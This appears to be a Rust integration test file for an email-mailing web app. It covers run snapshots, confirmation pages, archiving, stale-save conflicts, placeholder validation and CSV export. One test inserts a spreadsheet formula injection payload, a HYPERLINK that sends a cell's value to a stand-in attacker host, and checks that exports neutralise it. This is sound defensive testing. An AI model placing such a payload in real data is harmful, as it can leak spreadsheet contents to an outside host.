//! Issue 12, content and history, over HTTP: a run keeps the content it started with; every
//! delete, send and disable asks first (with and without JavaScript) and a mailing that ran is
//! archived, never erased; stale saves are refused with both versions; placeholders are
//! filled by one function and unknown ones refused; every CSV cell is safe in a spreadsheet.

use std::time::Duration;

use crate::helpers::{
    ACTIVE, MANAGER, Mail, MailingForm, Page, TestApp, spawn_app, spawn_app_with,
};
use crate::html::{hidden, text_of};

const OWNER: &str = "owner@example.com";

/// A logged-in owner with `n` recipients and a message.
struct Setup {
    owner: i64,
    message: i64,
    recipients: Vec<i64>,
}

/// Made through the routes, logged in as the owner.
async fn setup(app: &TestApp, n: usize, subject: &str, body: &str) -> Setup {
    let owner = app.create_user(OWNER, ACTIVE).await;
    app.login_as(OWNER).await;
    let message = app.add_message(subject, body).await;
    let mut recipients = Vec::new();
    for i in 0..n {
        let email = format!("r{i}@example.com");
        recipients.push(app.add_recipient(&email, &format!("Person {i}"), "").await);
    }
    Setup {
        owner,
        message,
        recipients,
    }
}

/// A daily mailing (manual runs stay possible after one) of the setup's message and people.
async fn mailing(app: &TestApp, s: &Setup) -> i64 {
    app.add_mailing(&MailingForm::daily(s.message, &s.recipients))
        .await
}

// --- item 9: a run fixes its content at start --------------------------------------------

#[tokio::test]
async fn editing_the_message_mid_run_changes_the_next_run_only() {
    // One sender claiming 16 at a time at 10 a second (after a burst of 10): a 40-recipient
    // run takes about three seconds and three claims, time to edit between them.
    let app = spawn_app_with(|vars| {
        vars.insert("SEND_RATE_PER_SECOND".into(), "10".into());
        vars.insert("SEND_CONCURRENCY".into(), "1".into());
    })
    .await;
    let s = setup(&app, 40, "Offer", "Price: 100 EUR").await;
    let id = mailing(&app, &s).await;

    let resp = app.post_page(&format!("/mailings/{id}/send"), &[]).await;
    assert_eq!(resp.status, 303);
    // Wait for the run to be under way, then edit the message as a user would.
    for _ in 0..200 {
        if !app.outbox.messages().is_empty() {
            break;
        }
        tokio::time::sleep(Duration::from_millis(10)).await;
    }
    let edit = app.get_html(&format!("/messages/{}/edit", s.message)).await;
    assert!(
        edit.contains("is sending now") && edit.contains("applies to the next run"),
        "the edit page says the run keeps its version: {edit}"
    );
    let version = hidden(&edit, "version").expect("a version field");
    let mailing_edit = app.get_html(&format!("/mailings/{id}/edit")).await;
    assert!(mailing_edit.contains("applies to the next run"));
    let resp = app
        .post_page(
            &format!("/messages/{}/edit", s.message),
            &[
                ("subject", "Offer"),
                ("body", "Price: 999 EUR"),
                ("body_html", ""),
                ("version", &version),
            ],
        )
        .await;
    assert_eq!(resp.status, 303);
    let during = app.outbox.messages().len();
    assert!(during < 40, "the edit landed mid-run ({during} of 40 sent)");
    // A second sender joins the run after the edit, as a scheduler tick or another instance
    // does: it too must send what the run started with.
    let other = app.another_instance().await;
    let run = autosend::db::runs::active(&app.state.db, id)
        .await
        .unwrap()
        .expect("the run is still active");
    let limits = autosend::delivery::engine::DriveLimits {
        run_id: Some(run.id),
        ..Default::default()
    };
    autosend::delivery::engine::drive(&other.delivery(), &autosend::clock::Clock::System, &limits)
        .await
        .unwrap();
    app.wait_until_finished(id).await;

    let mut sent = app.outbox.messages();
    let joined = other.mailer.outbox().unwrap().messages();
    assert!(!joined.is_empty(), "the second sender sent some of the run");
    sent.extend(joined);
    let bodies: Vec<String> = sent.iter().map(|m| Mail::parse(&m.raw).text).collect();
    assert_eq!(bodies.len(), 40);
    let old = bodies
        .iter()
        .filter(|b| b.contains("Price: 100 EUR"))
        .count();
    let new = bodies
        .iter()
        .filter(|b| b.contains("Price: 999 EUR"))
        .count();
    assert_eq!(
        (old, new),
        (40, 0),
        "every message of the run has its start content"
    );

    app.outbox.clear();
    let resp = app.post_page(&format!("/mailings/{id}/send"), &[]).await;
    assert_eq!(resp.status, 303);
    app.wait_until_finished(id).await;
    let next: Vec<String> = app
        .outbox
        .messages()
        .iter()
        .map(|m| Mail::parse(&m.raw).text)
        .collect();
    assert_eq!(next.len(), 40);
    assert!(
        next.iter().all(|b| b.contains("Price: 999 EUR")),
        "{next:?}"
    );
}

// --- item 10: confirm everywhere, archive instead of erasing history ----------------------

#[tokio::test]
async fn every_delete_send_and_disable_asks_first_with_and_without_javascript() {
    let app = spawn_app().await;
    let s = setup(&app, 2, "Hello", "Hi {{full_name}}").await;
    let id = mailing(&app, &s).await;
    let spare = app.add_message("Spare", "x").await;
    let r = s.recipients[0];

    // With JavaScript: every control is an htmx POST with hx-confirm; without, a link to the
    // confirmation page at the same URL.
    for (detail, action) in [
        (format!("/clients/{r}"), format!("/clients/{r}/delete")),
        (
            format!("/messages/{spare}"),
            format!("/messages/{spare}/delete"),
        ),
        (format!("/mailings/{id}"), format!("/mailings/{id}/delete")),
        (format!("/mailings/{id}"), format!("/mailings/{id}/send")),
        (format!("/mailings/{id}"), format!("/mailings/{id}/disable")),
    ] {
        let html = app.get_html(&detail).await;
        let control = format!(r#"href="{action}" role="button" hx-post="{action}" hx-confirm="#);
        assert!(html.contains(&control), "{action} on {detail}: {html}");
        // (The dry run posts to /send too, with dry_run=1: it mails nobody.)
        if !action.ends_with("/send") {
            assert!(
                !html.contains(&format!(
                    r#"<form class="inline" method="post" action="{action}">"#
                )),
                "no form posts {action} without asking"
            );
        }
    }
    for list in ["/clients/", "/messages/"] {
        let html = app.get_html(list).await;
        assert!(html.contains("hx-confirm") && html.contains("/delete\" role=\"button\""));
    }

    // Without JavaScript: GET shows what will go and a button that POSTs; nothing changes.
    let confirmations = [
        (format!("/clients/{r}/delete"), "r0@example.com", "Delete"),
        (format!("/messages/{spare}/delete"), "Spare", "Delete"),
        (format!("/mailings/{id}/delete"), "never run", "Delete"),
        (format!("/mailings/{id}/send"), "2 recipient(s)", "Send now"),
        (format!("/mailings/{id}/disable"), "cancelled", "Disable"),
    ];
    for (path, what, button) in confirmations {
        let Page {
            status, text: html, ..
        } = app.get_page(&path).await;
        assert_eq!(status, 200, "{path}");
        assert!(html.contains(what), "{path} says what will happen: {html}");
        assert!(
            html.contains(&format!(
                r#"<form class="inline" method="post" action="{path}">"#
            )) && html.contains(&format!(r#"type="submit">{button}</button>"#)),
            "{path} has a button that posts: {html}"
        );
    }
    assert!(
        app.outbox.messages().is_empty(),
        "nothing was sent by asking"
    );
    let mailing = autosend::db::mailings::get(&app.state.db, id)
        .await
        .unwrap()
        .unwrap();
    assert_eq!(mailing.status.as_str(), "created", "nothing was disabled");
    assert!(
        autosend::db::recipients::get(&app.state.db, r)
            .await
            .unwrap()
            .is_some()
    );

    // A message in use: its page says why, with no button.
    let Page {
        status, text: html, ..
    } = app
        .get_page(&format!("/messages/{}/delete", s.message))
        .await;
    assert_eq!(status, 200);
    assert!(html.contains("cannot be deleted") && !html.contains(">Delete</button>"));

    // Confirmed through htmx from the detail page: a full-page redirect, not a fragment.
    let token = app.csrf_token().await;
    let resp = app
        .client
        .post(app.url(&format!("/messages/{spare}/delete")))
        .header("HX-Request", "true")
        .header("X-CSRF-Token", token)
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 200);
    assert_eq!(resp.headers()["hx-redirect"], "/messages/");
}

/// Stats and report figures as a user reads them, plus the CSV export.
async fn figures(app: &TestApp) -> (String, String, String) {
    let stats = app.get_html("/mailings/stats/").await;
    let report = app.get_html("/mailings/reports/").await;
    let csv = app.get_html("/mailings/reports/export.csv").await;
    (stats, report, csv)
}

#[tokio::test]
async fn deleting_a_mailing_that_ran_archives_it_with_its_history_and_restore_brings_it_back() {
    let app = spawn_app().await;
    // The subject must not contain "Archived": the status cell is what is asserted on.
    let s = setup(&app, 3, "Quarterly news", "Hi {{full_name}}").await;
    let id = mailing(&app, &s).await;
    let resp = app.post_page(&format!("/mailings/{id}/send"), &[]).await;
    assert_eq!(resp.status, 303);
    app.wait_until_finished(id).await;
    assert_eq!(app.outbox.messages().len(), 3);
    let (stats_before, report_before, csv_before) = figures(&app).await;
    assert!(stats_before.contains("Quarterly news"));
    assert!(
        !stats_before.contains("<td>Archived</td>") && !report_before.contains("<td>Archived</td>")
    );

    let confirm = app.get_html(&format!("/mailings/{id}/delete")).await;
    assert!(confirm.contains("Archive this mailing?") && confirm.contains("1 run(s)"));
    let resp = app.post_page(&format!("/mailings/{id}/delete"), &[]).await;
    assert_eq!(resp.status, 303);
    let list = app.get_html("/mailings/").await;
    assert!(
        !list.contains(&format!("/mailings/{id}\"")),
        "hidden from the list"
    );
    let archived = app.get_html("/mailings/?status=archived").await;
    assert!(
        archived.contains(&format!("/mailings/{id}\"")),
        "{archived}"
    );

    // History intact: the detail page, run history and delivery log still answer.
    let Page {
        status,
        text: detail,
        ..
    } = app.get_page(&format!("/mailings/{id}")).await;
    assert_eq!(status, 200);
    assert!(detail.contains("archived") && detail.contains("Restore"));
    assert!(!detail.contains(&format!(r#"hx-post="/mailings/{id}/send""#)));
    let logs = app
        .get_html(&format!("/mailings/{id}/logs?status=sent"))
        .await;
    assert_eq!(logs.matches("badge sent").count(), 3);

    // The figures are the same, the mailing marked archived.
    let (stats_after, report_after, csv_after) = figures(&app).await;
    for card in [
        "total-mailings",
        "total-runs-ok",
        "total-sent",
        "total-errors",
    ] {
        assert_eq!(
            text_of(&stats_before, card),
            text_of(&stats_after, card),
            "{card}"
        );
    }
    for card in [
        "report-mailings",
        "report-recipients",
        "report-runs-ok",
        "report-sent",
    ] {
        assert_eq!(
            text_of(&report_before, card),
            text_of(&report_after, card),
            "{card}"
        );
    }
    assert_eq!(text_of(&stats_after, "total-sent"), "3");
    assert!(stats_after.contains("Quarterly news"));
    assert!(
        stats_after.contains("<td>Archived</td>"),
        "the status cell: {stats_after}"
    );
    assert!(
        report_after.contains("<td>Archived</td>"),
        "the status cell: {report_after}"
    );
    let numbers = |csv: &str| -> Vec<String> {
        csv.lines()
            .skip(1)
            .map(|l| {
                let cells: Vec<&str> = l.split(',').collect();
                format!("{}|{}", cells[0], cells[3..].join("|"))
            })
            .collect()
    };
    assert_eq!(numbers(&csv_before), numbers(&csv_after), "{csv_after}");
    assert!(csv_after.contains(",archived,"), "{csv_after}");

    // An archived mailing is never sent; its owner may restore it.
    let again = app.post_page(&format!("/mailings/{id}/send"), &[]).await;
    assert_eq!(again.status, 409);
    let resp = app.post_page(&format!("/mailings/{id}/restore"), &[]).await;
    assert_eq!(resp.status, 303);
    let list = app.get_html("/mailings/").await;
    assert!(
        list.contains(&format!("/mailings/{id}\"")),
        "back in the list"
    );
    let archived = app.get_html("/mailings/?status=archived").await;
    assert!(!archived.contains(&format!("/mailings/{id}\"")));
    let twice = app.post_page(&format!("/mailings/{id}/restore"), &[]).await;
    assert_eq!(twice.status, 409, "only an archived mailing is restored");

    // Another owner cannot restore it (404), a viewer with view_all cannot change it (403).
    app.create_user("manager@example.com", MANAGER).await;
    let other = app.browser_for("manager@example.com").await;
    let resp =
        crate::helpers::post_form_with(&other, &app, &format!("/mailings/{id}/restore"), &[]).await;
    assert_eq!(resp.status(), 403);

    // A mailing that never ran is deleted outright.
    let fresh = mailing(&app, &s).await;
    let resp = app
        .post_page(&format!("/mailings/{fresh}/delete"), &[])
        .await;
    assert_eq!(resp.status, 303);
    assert!(
        autosend::db::mailings::get(&app.state.db, fresh)
            .await
            .unwrap()
            .is_none()
    );
}

/// A mailing of the setup that ran once (manually) and was then deleted, i.e. archived.
async fn archived_mailing(app: &TestApp, s: &Setup) -> i64 {
    let id = mailing(app, s).await;
    let resp = app.post_page(&format!("/mailings/{id}/send"), &[]).await;
    assert_eq!(resp.status, 303);
    app.wait_until_finished(id).await;
    let resp = app.post_page(&format!("/mailings/{id}/delete"), &[]).await;
    assert_eq!(resp.status, 303);
    id
}

#[tokio::test]
async fn a_run_is_never_claimed_on_a_mailing_archived_after_the_look() {
    use autosend::db::runs::{self, Claim, NewRun, StartRunError};
    let app = spawn_app().await;
    let s = setup(&app, 2, "Claim news", "Hi").await;
    let id = archived_mailing(&app, &s).await;
    let m = autosend::db::mailings::get(&app.state.db, id)
        .await
        .unwrap()
        .unwrap();
    let now = autosend::domain::instant::to_ms(time::OffsetDateTime::now_utc());
    // The scheduler's claim (it read the mailing as due just before the archive) and a
    // manual start (checked just before) both meet the claim UPDATE: it must refuse.
    for claim in [
        Some(Claim {
            expected_next_run_at: m.next_run_at.unwrap_or(0),
            next_run_at: None,
        }),
        None,
    ] {
        let new = NewRun {
            mailing_id: id,
            trigger: autosend::domain::Trigger::Scheduler,
            dry_run: false,
            claim,
        };
        let started = runs::start(&app.state.db, &new, now).await;
        assert!(
            matches!(started, Err(StartRunError::Archived)),
            "{started:?}"
        );
    }
    app.post_page(&format!("/mailings/{id}/send"), &[])
        .await
        .assert_status(409)
        .assert_contains("This mailing is archived");
    assert_eq!(app.outbox.messages().len(), 2, "only the first run's mail");
}

#[tokio::test]
async fn restoring_a_mailing_asks_first_and_sends_nothing_until_its_next_occurrence() {
    let app = spawn_app().await;
    let s = setup(&app, 2, "Restore news", "Hi").await;
    let id = archived_mailing(&app, &s).await;
    // Time passed while it was archived: its window opened and the scheduled run went by.
    let day = 86_400_000;
    let now = autosend::domain::instant::to_ms(time::OffsetDateTime::now_utc());
    sqlx::query(
        "UPDATE mailings SET start_at = $2, next_run_at = $2, status = 'running' WHERE id = $1",
    )
    .bind(id)
    .bind(now - 3 * day - 60_000)
    .execute(&app.state.db.pool)
    .await
    .unwrap();

    let Page {
        status,
        text: confirm,
        ..
    } = app.get_page(&format!("/mailings/{id}/restore")).await;
    assert_eq!(status, 200);
    assert!(confirm.contains("Restore this mailing?"), "{confirm}");
    assert!(confirm.contains("next scheduled run"), "{confirm}");
    let detail = app.get_html(&format!("/mailings/{id}")).await;
    assert!(
        detail.contains(&format!(r#"hx-post="/mailings/{id}/restore""#))
            && detail.contains("hx-confirm"),
        "{detail}"
    );

    let resp = app.post_page(&format!("/mailings/{id}/restore"), &[]).await;
    assert_eq!(resp.status, 303);
    let m = autosend::db::mailings::get(&app.state.db, id)
        .await
        .unwrap()
        .unwrap();
    let next = m.next_run_at.expect("a daily mailing has a next run");
    assert!(next > now, "the missed run is not due: {next} <= {now}");
    assert!(next <= now + day + 60_000);
    let tick =
        autosend::delivery::scheduler::tick(&app.state.delivery(), &autosend::clock::Clock::System)
            .await
            .unwrap();
    assert!(tick.started.is_empty(), "{tick:?}");
    assert_eq!(
        app.outbox.messages().len(),
        2,
        "nothing sent by the restore"
    );
}

#[tokio::test]
async fn an_archived_mailing_is_not_edited_and_its_report_keeps_its_subject() {
    let app = spawn_app().await;
    let s = setup(&app, 2, "Spring offer", "Hi").await;
    let id = archived_mailing(&app, &s).await;
    let detail = app.get_html(&format!("/mailings/{id}")).await;
    assert!(
        !detail.contains(&format!("/mailings/{id}/edit")),
        "no Edit button: {detail}"
    );
    let Page {
        status, text: body, ..
    } = app.get_page(&format!("/mailings/{id}/edit")).await;
    assert_eq!(status, 409);
    assert!(body.contains("Restore it to edit it"), "{body}");
    let other = app.add_message("Winter offer", "Hi").await.to_string();
    let ids: Vec<String> = s.recipients.iter().map(i64::to_string).collect();
    let mut form = vec![
        ("message_id", other.as_str()),
        ("start_at", "2030-01-01T09:00"),
        ("end_at", "2030-02-01T09:00"),
        ("period", "daily"),
    ];
    for r in &ids {
        form.push(("recipient_ids", r));
    }
    app.post_page(&format!("/mailings/{id}/edit"), &form)
        .await
        .assert_status(409)
        .assert_contains("Restore it to edit it");
    let (stats, report, _) = figures(&app).await;
    assert!(stats.contains("Spring offer") && !stats.contains("Winter offer"));
    assert!(report.contains("Spring offer") && !report.contains("Winter offer"));
}

#[tokio::test]
async fn the_dashboard_skips_archived_mailings_and_refused_actions_say_why() {
    let app = spawn_app().await;
    let s = setup(&app, 2, "Dash news", "Hi").await;
    let id = archived_mailing(&app, &s).await;
    let live = mailing(&app, &s).await;
    let home = app.get_html("/").await;
    assert_eq!(text_of(&home, "count-mailings"), "1", "{home}");

    let Page {
        status, text: send, ..
    } = app.get_page(&format!("/mailings/{id}/send")).await;
    assert_eq!(status, 200);
    assert!(
        send.contains("cannot be sent now") && send.contains("archived"),
        "{send}"
    );
    assert!(
        !send.contains(&format!(r#"action="/mailings/{id}/send""#)),
        "{send}"
    );
    let delete = app.get_html(&format!("/mailings/{id}/delete")).await;
    assert!(delete.contains("cannot be deleted now") && delete.contains("archived already"));
    assert!(!delete.contains(&format!(r#"action="/mailings/{id}/delete""#)));

    // A finished mailing cannot be sent again; its delete (archive) is still offered.
    let resp = app
        .post_page(&format!("/mailings/{live}/disable"), &[])
        .await;
    assert_eq!(resp.status, 303);
    let send = app.get_html(&format!("/mailings/{live}/send")).await;
    assert!(send.contains("It is finished"), "{send}");
    assert!(!send.contains(&format!(r#"action="/mailings/{live}/send""#)));
    let delete = app.get_html(&format!("/mailings/{live}/delete")).await;
    assert!(delete.contains(&format!(r#"action="/mailings/{live}/delete""#)));
}

#[tokio::test]
async fn a_huge_version_field_is_cut_on_every_edit_form_and_never_echoed() {
    let app = spawn_app().await;
    let s = setup(&app, 1, "Versions", "Hi").await;
    let id = mailing(&app, &s).await;
    let huge = format!("7{}", "x".repeat(50_000));
    for (edit, bad) in [
        (
            format!("/clients/{}/edit", s.recipients[0]),
            vec![("email", "not an address")],
        ),
        (
            format!("/messages/{}/edit", s.message),
            vec![("subject", ""), ("body", "Hi")],
        ),
        (format!("/mailings/{id}/edit"), vec![("message_id", "x")]),
    ] {
        let mut fields = bad.clone();
        fields.push(("version", huge.as_str()));
        let resp = app.post_page(&edit, &fields).await;
        assert_eq!(resp.status, 422, "{edit}");
        let html = resp.text;
        assert!(
            !html.contains(&"x".repeat(100)),
            "{edit} echoes the version"
        );
        assert!(html.len() < 40_000, "{edit}: {} bytes", html.len());
    }
}

#[tokio::test]
async fn deleting_a_recipient_keeps_past_deliveries_and_counts() {
    let app = spawn_app().await;
    let s = setup(&app, 2, "Kept", "Hi {{full_name}}").await;
    let id = mailing(&app, &s).await;
    app.post_form(&format!("/mailings/{id}/send"), &[]).await;
    app.wait_until_finished(id).await;
    let (stats_before, _, _) = figures(&app).await;
    let resp = app
        .post_page(&format!("/clients/{}/delete", s.recipients[0]), &[])
        .await;
    assert_eq!(resp.status, 303);
    let logs = app.get_html(&format!("/mailings/{id}/logs")).await;
    assert!(logs.contains("r0@example.com"), "the log keeps the address");
    assert_eq!(logs.matches("badge sent").count(), 2);
    let (stats_after, _, _) = figures(&app).await;
    assert_eq!(text_of(&stats_before, "total-sent"), "2");
    assert_eq!(text_of(&stats_after, "total-sent"), "2");
}

// --- item 13: lost updates --------------------------------------------------------------

/// Two browsers load the same edit form; the first saves, the second is refused with 409
/// showing both versions, and nothing of the second is saved until it saves again.
async fn second_save_is_refused(
    app: &TestApp,
    edit: &str,
    first: &[(&str, &str)],
    second: &[(&str, &str)],
    theirs: &str,
    mine: &str,
) {
    let other = app.browser_for(OWNER).await;
    let form_a = app.get_html(edit).await;
    let form_b = app.get_html_as(&other, edit).await;
    let version_a = hidden(&form_a, "version").expect("version field");
    let version_b = hidden(&form_b, "version").expect("version field");
    assert_eq!(version_a, version_b);

    let mut fields = first.to_vec();
    fields.push(("version", &version_a));
    let resp = app.post_page(edit, &fields).await;
    assert_eq!(resp.status, 303, "the first save lands");

    let mut fields = second.to_vec();
    fields.push(("version", &version_b));
    let resp = crate::helpers::post_form_with(&other, app, edit, &fields).await;
    assert_eq!(resp.status(), 409, "{edit}");
    let html = resp.text().await.unwrap();
    assert!(html.contains("Someone else saved this"), "{html}");
    assert!(html.contains(theirs), "their version is shown: {html}");
    assert!(html.contains(mine), "my input is kept: {html}");
    let now = app.get_html(edit).await;
    assert!(
        now.contains(theirs) && !now.contains(mine),
        "the first save stands"
    );

    // Saving again from the refusal page (it carries their version) replaces it knowingly.
    let newer = hidden(&html, "version").unwrap();
    assert_ne!(newer, version_b);
    let mut fields = second.to_vec();
    fields.push(("version", &newer));
    let resp = crate::helpers::post_form_with(&other, app, edit, &fields).await;
    assert_eq!(resp.status(), 303);
    let now = app.get_html(edit).await;
    assert!(now.contains(mine));
}

#[tokio::test]
async fn a_stale_save_of_a_recipient_message_or_mailing_is_a_409_showing_both() {
    let app = spawn_app().await;
    let s = setup(&app, 2, "Subject one", "Body one").await;
    let id = mailing(&app, &s).await;
    let r = s.recipients[0];

    second_save_is_refused(
        &app,
        &format!("/clients/{r}/edit"),
        &[
            ("email", "r0@example.com"),
            ("full_name", "Name From A"),
            ("comment", ""),
        ],
        &[
            ("email", "r0@example.com"),
            ("full_name", "Name From B"),
            ("comment", ""),
        ],
        "Name From A",
        "Name From B",
    )
    .await;
    second_save_is_refused(
        &app,
        &format!("/messages/{}/edit", s.message),
        &[
            ("subject", "Subject From A"),
            ("body", "Body one"),
            ("body_html", ""),
        ],
        &[
            ("subject", "Subject From B"),
            ("body", "Body one"),
            ("body_html", ""),
        ],
        "Subject From A",
        "Subject From B",
    )
    .await;
    let message = s.message.to_string();
    let r0 = s.recipients[0].to_string();
    let form_a = [
        ("message_id", message.as_str()),
        ("recipient_ids", r0.as_str()),
        ("start_at", "2030-01-01T09:00"),
        ("end_at", "2030-03-03T09:00"),
        ("period", "daily"),
    ];
    let form_b = [
        ("message_id", message.as_str()),
        ("recipient_ids", r0.as_str()),
        ("start_at", "2030-01-01T09:00"),
        ("end_at", "2030-04-04T09:00"),
        ("period", "daily"),
    ];
    second_save_is_refused(
        &app,
        &format!("/mailings/{id}/edit"),
        &form_a,
        &form_b,
        "2030-03-03T09:00",
        "2030-04-04T09:00",
    )
    .await;
}

// --- item 15: one placeholder filler, unknown placeholders refused ------------------------

#[tokio::test]
async fn the_preview_fills_placeholders_with_and_without_spaces_like_the_send() {
    let app = spawn_app().await;
    let s = setup(
        &app,
        1,
        "For {{ full_name }}",
        "Dear {{ full_name }} ({{email}})",
    )
    .await;
    let page_html = app.get_html(&format!("/messages/{}", s.message)).await;
    // The page names the message by its template; the preview below it is filled.
    let preview = &page_html[page_html.find("Preview for").expect("a preview")..];
    assert!(
        !preview.contains("{{"),
        "nothing raw in the preview: {preview}"
    );
    assert!(preview.contains("For Ann Example"), "{preview}");
    assert!(
        preview.contains("Dear Ann Example (ann@example.com)"),
        "{preview}"
    );

    let id = mailing(&app, &s).await;
    app.post_form(&format!("/mailings/{id}/send"), &[]).await;
    app.wait_until_finished(id).await;
    let sent = app.mails_to("r0@example.com");
    assert_eq!(sent.len(), 1);
    assert_eq!(sent[0].subject, "For Person 0");
    assert!(sent[0].text.contains("Dear Person 0 (r0@example.com)"));
}

#[tokio::test]
async fn unknown_placeholders_and_unclosed_braces_are_refused_at_save() {
    let app = spawn_app().await;
    let s = setup(&app, 0, "Subject", "Body").await;
    let count = || async {
        sqlx::query_scalar::<_, i64>("SELECT CAST(COUNT(*) AS BIGINT) FROM messages")
            .fetch_one(&app.state.db.pool)
            .await
            .unwrap()
    };
    let before = count().await;
    for (field, value, named) in [
        ("body", "Hi {{first_name}}", "{{first_name}}"),
        ("subject", "Hi {{ last_name }}", "{{last_name}}"),
        ("body_html", "<p>{{ city }}</p>", "{{city}}"),
        ("body", "Hi {{full_name", "never closed"),
    ] {
        let mut form = vec![("subject", "Fine"), ("body", "Fine"), ("body_html", "")];
        form.retain(|(k, _)| *k != field);
        form.push((field, value));
        let resp = app.post_page("/messages/", &form).await;
        assert_eq!(resp.status, 422, "{field}={value}");
        let html = resp.text;
        assert!(
            html.contains(named),
            "{field}={value} names the problem: {html}"
        );
        assert_eq!(count().await, before, "nothing saved");

        let resp = app
            .post_page(&format!("/messages/{}/edit", s.message), &form)
            .await;
        assert_eq!(resp.status, 422);
    }
    let stored = autosend::db::messages::get(&app.state.db, s.message)
        .await
        .unwrap()
        .unwrap();
    assert_eq!(
        (stored.subject.as_str(), stored.body.as_str()),
        ("Subject", "Body")
    );
}

// --- item 17: CSV formula injection --------------------------------------------------------

#[tokio::test]
async fn formulas_come_out_neutralised_in_every_csv_and_an_export_imports_as_itself() {
    let app = spawn_app().await;
    let formula = r#"=HYPERLINK("http://evil.example/?x="&A1,"Click")"#;
    let s = setup(&app, 0, formula, "Hi {{full_name}}").await;
    for (email, name, comment) in [
        ("ann@example.com", formula, "+1 555"),
        ("bob@example.com", "@SUM(A1:A9)", "-2"),
        ("cat@example.com", "'=already quoted", "plain"),
    ] {
        let resp = app
            .post_page(
                "/clients/",
                &[("email", email), ("full_name", name), ("comment", comment)],
            )
            .await;
        assert_eq!(resp.status, 303, "{name}");
    }
    let csv = app.get_html("/clients/export.csv").await;
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let cells: Vec<String> = reader
        .records()
        .flat_map(|r| r.unwrap().iter().map(str::to_string).collect::<Vec<_>>())
        .collect();
    for cell in &cells {
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "{cell:?} would be a formula: {csv}"
        );
    }
    assert!(cells.contains(&format!("'{formula}")), "{csv}");
    assert!(cells.contains(&"''=already quoted".to_string()), "{csv}");

    // The export imports back as what was exported (nothing changes, nothing is rejected).
    let before = app.get_html("/clients/export.csv").await;
    let resp = Page::read(
        app.import_csv("recipients.csv", before.clone().into_bytes())
            .await,
    )
    .await;
    assert_eq!(resp.status, 200);
    let result = resp.text;
    assert!(result.contains(r#"id="rejected">0<"#), "{result}");
    assert_eq!(app.get_html("/clients/export.csv").await, before);
    let stored = autosend::db::recipients::all(
        &app.state.db,
        &autosend::db::recipients::ListQuery {
            owner: Some(s.owner),
            ..Default::default()
        },
    )
    .await
    .unwrap();
    let names: Vec<&str> = stored.iter().map(|r| r.full_name.as_str()).collect();
    assert!(
        names.contains(&formula) && names.contains(&"'=already quoted"),
        "{names:?}"
    );

    // The report export: a subject that is a formula comes out quoted.
    let id = mailing_of(&app, s.message, &stored).await;
    app.post_form(&format!("/mailings/{id}/send"), &[("dry_run", "1")])
        .await;
    app.wait_until_finished(id).await;
    let report = app.get_html("/mailings/reports/export.csv").await;
    let mut reader = csv::Reader::from_reader(report.as_bytes());
    let subjects: Vec<String> = reader
        .records()
        .map(|r| r.unwrap()[1].to_string())
        .collect();
    assert_eq!(subjects, [format!("'{formula}")], "{report}");
}

async fn mailing_of(
    app: &TestApp,
    message: i64,
    recipients: &[autosend::db::recipients::ListedRecipient],
) -> i64 {
    let s = Setup {
        owner: 0,
        message,
        recipients: recipients.iter().map(|r| r.id).collect(),
    };
    mailing(app, &s).await
}
